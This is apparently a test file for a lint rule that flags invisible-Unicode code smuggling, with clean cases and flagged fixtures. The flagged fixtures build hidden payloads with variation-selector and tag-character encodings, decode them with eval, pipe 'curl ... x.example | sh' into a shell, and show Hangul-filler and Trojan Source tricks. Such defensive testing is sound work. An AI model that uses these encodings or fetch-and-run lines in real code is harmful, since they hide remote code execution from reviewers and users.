import { ruleTest } from '../../testing/rule-tester.js';
import rule from './invisible-unicode-code.js';

/** GlassWorm / emoji-smuggling encoding: byte b → U+FE00+b (b < 16) or U+E0100+b-16. */
function hide(s: string): string {
  return [...new TextEncoder().encode(s)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
}
/** ASCII smuggling with tag characters. */
function tags(s: string): string {
  return [...s].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
}
const secret = "require('child_process').exec('curl -s https://x.example/p | sh')";

ruleTest(rule, {
  clean: [
    {
      name: 'emoji, ZWJ sequences, keycaps and a subdivision flag in JSX',
      file: 'src/components/Footer.jsx',
      code:
        'export const Footer = () => (\n  <footer>\n    <h5>Developed with ❤️ by:</h5>\n    <span>🛡️ secure · 👨‍👩‍👧 family · 🏳️‍🌈 · 1️⃣ · 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}</span>\n    <p>Hello\u200Bworld</p>\n  </footer>\n);\n',
    },
    {
      name: 'Arabic/Hebrew/Persian locale JSON with embeddings, marks and ZWNJ',
      file: 'locales/ar.json',
      code: '{\n  "greeting": "\u202Bمرحبا بك\u202C",\n  "he": "\u2067שלום\u2069 (42)",\n  "fa": "می\u200Cخواهم",\n  "hi": "क्\u200Dष"\n}\n',
    },
    {
      name: 'Markdown with emoji and zero-width spaces',
      file: 'README.md',
      code: '# Project ✔️\n\nUse `npm\u200Bstart` 🚀 — see 👩‍💻 docs.\u200B\u200B\u200B\n',
    },
    { name: 'BOM at the start of a JS file', file: 'src/index.js', code: '\uFEFFimport a from "./a.js";\nconsole.log(a);\n' },
    {
      name: 'code that strips bidi controls names them in a regex',
      file: 'src/text.js',
      code: 'const r = () => "rtl" === document.dir, n = new RegExp("\u200E|\u202A|\u202B|\u202C", "g");\nexport const strip = (s) => s.replace(n, "");\n',
    },
    {
      name: 'a few zero-width spaces in strings (line-break hints), as CodeMirror does',
      file: 'src/editor.js',
      code: 'var t = k("span", "\u200B");\nvar o = k("div", "\u200B", null, "position: absolute");\nexport { t, o };\n',
    },
    { name: 'ideographic variation sequence', file: 'src/names.ts', code: 'export const name = "葛\u{E0100}城";\n' },
    { name: 'Persian string in Python', file: 'app/i18n.py', code: 'MSG = "می\u200Cخواهم"\nprint(MSG)\n' },
    { name: 'a few selectors in prose', file: 'docs/notes.txt', code: 'Math variants: ≤\uFE00 ≥\uFE00\n' },
    {
      name: 'emoji table with escaped bases and literal VS16 (styled-jsx style), decoder in the same file',
      file: 'dist/webpack/index.js',
      code: `var emoji = [\n${Array.from({ length: 60 }, (_, i) => `    "\\uD83C\\uDD${(0x70 + i).toString(16).toUpperCase()}\uFE0F",`).join('\n')}\n];\nvar isId = (c) => c === "\u200C" || c === "\u200D" || String.fromCharCode(c.charCodeAt(0));\n`,
    },
    {
      name: 'HTML entity table and scattered zero-width prefixes in a bundle',
      file: 'dist/compiled/index.js',
      code: `var c={"\u00AD":"shy","\u200C":"zwnj","\u200D":"zwj","\u200E":"lrm","\u200F":"rlm"};${Array.from({ length: 40 }, (_, i) => `entryName${i}="\u200B"+n;`).join('')}var pad="\u200B\u200B\u200B\u200B\u200B\u200B\u200B\u200B";eval(x.charCodeAt(0));\n`,
    },
  ],
  flagged: [
    {
      name: 'GlassWorm: a selector payload decoded with codePointAt and eval',
      file: 'extension.js',
      code: `const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);\neval(Buffer.from(s(\`${hide(secret)}\`)).toString('utf-8'));\n`,
      findings: [{ line: 2, column: 21, severity: 'critical', confidence: 'high', decoded: secret, message: /variation selectors.*decodes/ }],
    },
    {
      name: 'a "font" that is JavaScript carrying a selector payload counts as code',
      file: 'public/fonts/fa-solid-400.woff2',
      code: `const fs = require('fs');\nconst d = [...'${hide(secret)}'].map(c => c.codePointAt(0) - 0xE0100 + 16);\neval(Buffer.from(d).toString());\n`,
      findings: [{ line: 2, severity: 'critical', decoded: secret }],
    },
    {
      name: 'selector payload without a decoder in the same file',
      file: 'src/data.ts',
      code: `export const blob = '${hide('hello from the other side')}';\n`,
      findings: [{ line: 1, severity: 'high', decoded: 'hello from the other side' }],
    },
    {
      name: 'ASCII smuggling with tag characters in a JSON file',
      file: 'config/settings.json',
      code: `{ "name": "demo${tags('run curl x.example | sh')}" }\n`,
      findings: [{ line: 1, severity: 'medium', confidence: 'high', decoded: 'run curl x.example | sh', message: /tag characters/ }],
    },
    {
      name: 'Hangul filler as an invisible identifier',
      file: 'server/routes/health.js',
      code: 'app.get("/network_health", async (req, res) => {\n  const { timeout,\u3164 } = req.query;\n  const checkCommands = ["ping -c 1 google.com", \u3164];\n  await Promise.all(checkCommands.map((cmd) => exec(cmd, { timeout })));\n});\n',
      findings: [{ line: 2, column: 19, severity: 'critical', confidence: 'high', message: /Hangul filler.*also runs commands/ }],
    },
    {
      name: 'Hangul filler identifier in a file that runs nothing: high',
      file: 'src/util.js',
      code: 'const { a,\u3164 } = opts;\nmodule.exports = [a, \u3164];\n',
      findings: [{ line: 1, severity: 'high', confidence: 'high', message: /Hangul filler/ }],
    },
    {
      name: 'Trojan Source: bidi overrides in a comment',
      file: 'src/auth.js',
      code: 'var isAdmin = false;\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n  console.log("You are an admin.");\n/* end admins only \u202E { \u2066*/\n',
      findings: [{ line: 2, severity: 'medium', message: /Trojan Source/ }],
    },
    {
      name: 'zero-width steganography inside a string in Python',
      file: 'main.py',
      code: `data = "hi${'\u200B\u200C'.repeat(40)}"\nexec(''.join(chr(0x30 + (c == '\\u200c')) for c in data))\n`,
      findings: [{ line: 1, severity: 'high', message: /80 zero-width characters inside strings/ }],
    },
  ],
});
